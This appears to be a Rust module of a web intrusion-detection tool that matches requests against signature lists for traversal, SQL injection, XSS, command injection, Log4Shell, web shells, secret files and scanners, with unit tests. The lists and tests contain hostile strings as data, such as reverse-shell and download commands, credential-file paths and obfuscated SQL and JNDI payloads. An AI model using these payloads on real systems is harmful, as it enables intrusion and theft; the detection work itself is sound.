//! What attacks on web servers look like in a request.

use super::super::Config;
use super::sql;
use crate::model::{Severity, scattered};
use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use std::borrow::Cow;
use std::cell::RefCell;
use std::sync::LazyLock;

/// Longest text looked at, bytes.
const TEXT: usize = 8192;

macro_rules! signs {
    ($($id:ident $name:literal $rule:literal $doc:literal $severity:ident $dangerous:literal [$($attack:literal),*] [$($text:literal),* $(,)?];)*) => {
        /// A kind of attack.
        #[derive(Clone, Copy, Debug, PartialEq, Eq)]
        pub enum Sign { $(#[doc = $doc] $id,)* }

        static ALL: &[Sign] = &[$(Sign::$id,)*];
        static TEXTS: &[(Sign, &str)] = &[$($((Sign::$id, $text),)*)*];

        impl Sign {
            /// Short name, part of a subject.
            pub fn name(self) -> &'static str {
                match self { $(Sign::$id => $name,)* }
            }
            /// Name of the rule.
            pub fn rule(self) -> &'static str {
                match self { $(Sign::$id => $rule,)* }
            }
            /// What such requests carry.
            pub fn doc(self) -> &'static str {
                match self { $(Sign::$id => $doc,)* }
            }
            /// How bad a try is.
            pub fn severity(self) -> Severity {
                match self { $(Sign::$id => Severity::$severity,)* }
            }
            /// Whether a success of the server makes it worse.
            pub fn dangerous(self) -> bool {
                match self { $(Sign::$id => $dangerous,)* }
            }
            /// ATT&CK techniques.
            pub fn attack(self) -> &'static [&'static str] {
                match self { $(Sign::$id => &[$($attack),*],)* }
            }
        }
    };
}

signs! {
    Traversal "traversal" "web.traversal" "a path out of the web's folder" Medium true ["T1190", "T1083"] [
        "../../", "..\\..\\", "/..;/", "/etc/passwd", "/etc/shadow", "/proc/self/environ", "c:/windows/", "c:\\windows\\", "boot.ini", "win.ini",
        "php://filter", "php://input", "file:///",
    ];
    Sql "sql" "web.sql_injection" "SQL in a parameter" Medium true ["T1190"] [
        "union select", "union all select", "' or '1'='1", "' or 1=1", "\" or 1=1", "or 1=1--", "' or ''='", "information_schema", "sleep(", "benchmark(",
        "waitfor delay", "xp_cmdshell", "' and 1=", "; drop table", "extractvalue(", "updatexml(", "load_file(", "into outfile", "pg_sleep(",
        // What programs spell so that no filter knows it.
        "concat(0x", "concat_ws(0x", "concat(char(", "concat(chr(", "select char(", "select chr(", "select 0x", ") char(", "||chr(", "char(113", "chr(113", "(0x71",
        ",0x71", "null,null", "group_concat(", "floor(rand(", "procedure analyse(", "randomblob(", "dbms_pipe.", "utl_inaddr.", "order by 1--", "rlike sleep", " and ", " or ",
    ];
    Script "xss" "web.cross_site_scripting" "a script in a parameter" Medium false ["T1190", "T1059.007"] [
        "<script", "javascript:alert", "onerror=", "onload=alert", "<svg/onload", "<img src=x", "document.cookie", "alert(1)",
    ];
    Command "command" "web.command_injection" "a shell command in a parameter" Medium true ["T1190", "T1059"] [
        ";cat /", "|cat /", "`id`", "$(id)", ";id;", "|id|", "/bin/sh", "/bin/bash", "cmd.exe", "powershell", "wget http", "curl http", ";wget ", "|wget ", "&&wget",
        ";env;", "`env`", "|env&", "&env&", ";whoami", "|whoami", "`whoami`", "$(whoami)", ";uname -", "|uname -", ";sleep ", "|sleep ", "`sleep ", "$(sleep ",
        "|ping -", "&ping -", ";ping -", "`ping -", "exit(md5(", "() { :;}", "() {:;}", "nc -e", "${ifs}", "chmod 777", "chmod +x",
    ];
    Log4Shell "log4shell" "web.log4shell" "a JNDI look-up (Log4Shell, CVE-2021-44228)" High false ["T1190", "T1203"] [
        "${jndi:", "${${lower:j", "${${upper:j", "${${::-j}", "${${env:", "${j${", "${jn${", "${jnd${", "${jndi${", "jndi:ldap", "jndi:rmi", "jndi:dns", "%24%7bjndi",
    ];
    Shell "shell" "web.shell" "the address of a web shell" Medium true ["T1505.003"] [
        "/c99.php", "/r57.php", "/shell.php", "/cmd.php", "/webshell", "/b374k", "/wso.php", "/alfa.php", "/cmd.jsp", "/shell.jsp", "/cmd.aspx", "/shell.aspx",
        "?cmd=", "&cmd=", "eval-stdin.php", "/boaform/", "/hnap1", "/setup.cgi?next_file", "invokefunction&function=",
    ];
    Hidden "hidden" "web.secret_files" "the address of a file nobody links to" Low true ["T1595.002", "T1552.001"] [
        "/.env", "/.git/", "/.svn/", "/.aws/", "/.ssh/", "/.htpasswd", "/.htaccess", "/wp-config.php", "/web.config", "/id_rsa", "/.ds_store", "/config.php.bak",
        "/backup.sql", "/backup.zip", "/backup.tar", "/db.sql", "/.bash_history", "/dump.sql", "/phpinfo.php", "/server-status", "/actuator/env", "/actuator/heapdump", "/.vscode/", "/docker-compose.yml",
    ];
    Scanner "scanner" "web.scanner" "the name of a scanner" Low false ["T1595.002"] [
        "nikto", "sqlmap", "gobuster", "dirbuster", "feroxbuster", "nmap scripting engine", "wpscan", "zgrab", "masscan", "nuclei", "fuzz faster u fool", "wfuzz",
        "acunetix", "nessus", "openvas", "netsparker", "w3af", "arachni", "whatweb", "httpx - open-source", "zmeu", "jorgee", "libwww-perl", "dirb ", "wapiti", "w4p1t1", "hydra)", "censysinspect", "expanse",
    ];
}

static MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let texts = TEXTS.iter().map(|(_, text)| *text);
    // The automaton is small, and every request is read by it: one step a byte.
    let builder = &mut AhoCorasick::builder();
    builder.ascii_case_insensitive(true).match_kind(MatchKind::Standard).kind(Some(AhoCorasickKind::DFA));
    builder.build(texts).ok()
});

impl Sign {
    /// The sign of that name.
    pub fn named(name: &str) -> Option<Sign> {
        ALL.iter().copied().find(|sign| sign.name() == name)
    }

    /// Requests that make a finding where none was answered with success.
    pub fn least(self, config: &Config) -> u64 {
        match self {
            Sign::Log4Shell => 1,
            _ => config.web_attacks,
        }
    }
}

/// Calls `found` once for each kind of attack in the texts of a request.
pub fn find<'t>(texts: impl Iterator<Item = &'t str>, mut found: impl FnMut(Sign)) {
    let Some(matcher) = MATCHER.as_ref() else { return };
    let mut seen = [false; ALL.len()];
    let mut look = |text: &str| {
        // Twice: attackers encode once more what servers decode once.
        let text = text.as_bytes();
        let once = decoded(text.get(..TEXT).unwrap_or(text));
        let twice = decoded(&once);
        // Once more as SQL reads it: what stands in a comment, or behind a mark of one, is an attack all the same.
        let spaced = sql::spaced(&twice);
        let mut harmless = true;
        let hits = |text| matcher.find_overlapping_iter(text).map(move |hit| (hit, text));
        for (hit, text) in std::iter::once(&*twice).chain(spaced.as_deref()).flat_map(hits) {
            let Some((sign, sought)) = TEXTS.get(hit.pattern().as_usize()) else { continue };
            if !meant(*sign, sought, text.get(hit.end()..).unwrap_or_default()) {
                continue;
            }
            harmless = false;
            if let Some(seen) = seen.get_mut(*sign as usize)
                && !std::mem::replace(seen, true)
            {
                found(*sign);
            }
        }
        harmless
    };
    HARMLESS.with_borrow_mut(|harmless| texts.for_each(|text| harmless.unless_known(text, &mut look)));
}

/// Whether what stands behind a text that was found leaves it what it is: `/.env` is a file, `/.environment.js` another,
/// and a parameter called `cmd` is a web shell's if its value is a command.
fn meant(sign: Sign, sought: &str, behind: &[u8]) -> bool {
    match sign {
        Sign::Sql if matches!(sought, " and " | " or ") => sql::is_always_so(behind),
        Sign::Shell if sought.ends_with("cmd=") => {
            let end = behind.iter().position(|b| matches!(b, b'&' | b'#')).unwrap_or(behind.len());
            let value = behind.get(..end).unwrap_or_default();
            let word = value.split(|b| !b.is_ascii_alphanumeric()).next().unwrap_or_default();
            COMMANDS.iter().any(|command| word.eq_ignore_ascii_case(command.as_bytes()))
                || value.iter().any(|b| b" /\\;|`$".contains(b))
        }
        Sign::Hidden | Sign::Shell if sought.ends_with(|c: char| c.is_ascii_alphanumeric()) => {
            let goes_on =
                behind.first().is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'));
            let page = behind.get(..4).is_some_and(|ending| ending.eq_ignore_ascii_case(b".htm"));
            !goes_on && !page
        }
        _ => true,
    }
}

/// What is asked of a web shell first.
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "ls",
    "dir",
    "cat",
    "type",
    "uname",
    "pwd",
    "ps",
    "env",
    "hostname",
    "ifconfig",
    "ipconfig",
    "ip",
    "netstat",
    "net",
    "wget",
    "curl",
    "echo",
    "phpinfo",
    "system",
    "cmd",
    "powershell",
    "sh",
    "bash",
    "python",
    "perl",
    "tasklist",
    "systeminfo",
    "w",
    "find",
    "rm",
];

/// Texts in which lately nothing was found.
#[derive(Default)]
struct Harmless {
    texts: Vec<String>,
}

/// How many of them, a power of two, and the longest, bytes.
const LATELY: usize = 1024;
const SHORT: usize = 256;

thread_local! {
    static HARMLESS: RefCell<Harmless> = RefCell::default();
}

impl Harmless {
    /// Looks at a text that is not known to be harmless.
    fn unless_known(&mut self, text: &str, look: impl FnOnce(&str) -> bool) {
        self.texts.resize_with(LATELY, String::new);
        // Addresses, and what clients call themselves, differ in length or in what they end with.
        let end = text.as_bytes().last_chunk::<8>().map_or(0, |last| u64::from_le_bytes(*last));
        let place = scattered(end ^ text.len() as u64, LATELY);
        let Some(known) = self.texts.get_mut(place) else { return };
        if known != text && look(text) && text.len() <= SHORT {
            text.clone_into(known);
        }
    }
}

/// Percent-encoding (RFC 3986 §2.1) and the plus sign of forms taken off, as far as it is there.
fn decoded(text: &[u8]) -> Cow<'_, [u8]> {
    let Some(first) = memchr::memchr2(b'%', b'+', text) else { return Cow::Borrowed(text) };
    let mut out = Vec::with_capacity(text.len());
    let (before, mut rest) = text.split_at(first);
    out.extend_from_slice(before);
    let digit = |byte: &u8| char::from(*byte).to_digit(16);
    while let Some((sign, after)) = rest.split_first() {
        rest = after;
        match (sign, after) {
            (b'+', _) => out.push(b' '),
            (_, [high, low, tail @ ..]) => match digit(high).zip(digit(low)) {
                Some((high, low)) => {
                    out.push((high << 4 | low) as u8);
                    rest = tail;
                }
                None => out.push(b'%'),
            },
            _ => out.push(b'%'),
        }
        let (plain, next) = rest.split_at(memchr::memchr2(b'%', b'+', rest).unwrap_or(rest.len()));
        out.extend_from_slice(plain);
        rest = next;
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(text: &str) -> Vec<&'static str> {
        let mut names = Vec::new();
        find(std::iter::once(text), |sign| names.push(sign.name()));
        names
    }

    #[test]
    fn attacks_plain_and_encoded() {
        assert_eq!(names("/a?f=../../../../etc/passwd"), ["traversal"]);
        assert_eq!(names("/a?f=%2e%2e%2f%2e%2e%2fx"), ["traversal"]);
        assert_eq!(names("/a?f=%252e%252e%252f%252e%252e%252fx"), ["traversal"]);
        assert_eq!(names("/a?id=1%20UNION%20SELECT%201,2"), ["sql"]);
        assert_eq!(names("/a?id=1+union+select+1"), ["sql"]);
        for spelled in [
            "1/**/UNION/**/ALL/**/SELECT/**/2",
            "1%20/*!50000UNION*/%20/*!50000SELECT*/%202",
            "1%0AUNION%09SELECT%20%202",
            "1%27%20AND%208423%3D8423--%20-",
            "1)%20AND%20(4711)=(4711",
            "x'%20OR%20'ab'='ab",
            "1+AND+2%3D2",
            "-1+or+CONCAT(0x716b7a7171,1)",
            "1||CHR(113)||CHR(98)",
            "CHAR(113)%2BCHAR(118)",
            "1,NULL,NULL",
        ] {
            assert_eq!(names(&format!("/a?id={spelled}")), ["sql"], "{spelled}");
        }
        for hidden in
            ["/a/*?f=../../../../etc/passwd", "/a/*../../etc/passwd*/", "/a?x=/*&f=%2e%2e%2f%2e%2e%2fx"]
        {
            assert_eq!(names(hidden), ["traversal"], "{hidden}");
        }
        assert_eq!(names("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), ["xss"]);
        assert_eq!(names("${jndi:ldap://192.0.2.1/a}"), ["log4shell"]);
        assert_eq!(names("Mozilla/5.00 (Nikto/2.1.6)"), ["scanner"]);
        assert_eq!(names("/.env"), ["hidden"]);
        assert_eq!(names("/a?q=a%3Benv%3B"), ["command"]);
        assert_eq!(names("/a?q=a%60sleep+60%60"), ["command"]);
        assert_eq!(names("/x.php?cmd=cat%20/etc/passwd"), ["shell", "traversal"]);
        assert_eq!(names("/x.php?cmd=whoami"), ["shell"]);
        assert_eq!(names("/.env.local"), ["hidden"]);
        assert_eq!(names("/db.sql.gz"), ["hidden"]);
        assert_eq!(names("/..;/..;/manager/html"), ["traversal"]);
        assert_eq!(names("/a?x=${j${k8s:k5:-ND}i:ldap://192.0.2.1/a}"), ["log4shell"]);
    }

    #[test]
    fn ordinary_requests_are_silent() {
        for text in [
            "/",
            "/index.html",
            "/search?q=select+a+union+of+states",
            "/a/../b",
            "/environment",
            "/gitlab/x.git/info",
            "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
            "/script.js?v=100%",
            "/img?x=%zz",
            "/a?q=sleep+better;environment",
            "/a?x=1&env=prod&ping=1",
            "curl/8.5.0",
            "Wget/1.21",
            "/docs/sleep.html",
            "/wiki/Orion",
            "/search?q=salt+and+pepper+or+sugar",
            "/search?q=rock+and+roll%3Drock",
            "/calc?q=1+and+2%3D3",
            "/api/*/x  y",
            "/cgi-bin/webscr?cmd=_xclick",
            "/cart.php?cmd=add&id=7",
            "/x?cmd=",
            "/shell.phpx",
            "/assets/.environment.js",
            "/redmine/.env-docs",
            "/docs/web.config.html",
            "/backup.sql.html",
        ] {
            assert!(names(text).is_empty(), "{text}: {:?}", names(text));
        }
    }

    #[test]
    fn what_recurs_is_judged_alike_each_time() {
        let agents =
            ["", "curl/8.5.0", "Mozilla/5.00 (Nikto/2.1.6)", "curl/8.5.0", "${jndi:ldap://192.0.2.1/a}"];
        let long = format!("Nikto {}", "x".repeat(2 * SHORT));
        for _ in 0..3 {
            for agent in agents.into_iter().chain([long.as_str()]) {
                let mut found = Vec::new();
                find(std::iter::once(agent), |sign| found.push(sign.name()));
                assert_eq!(found, names(agent), "{agent}");
            }
        }
    }
}
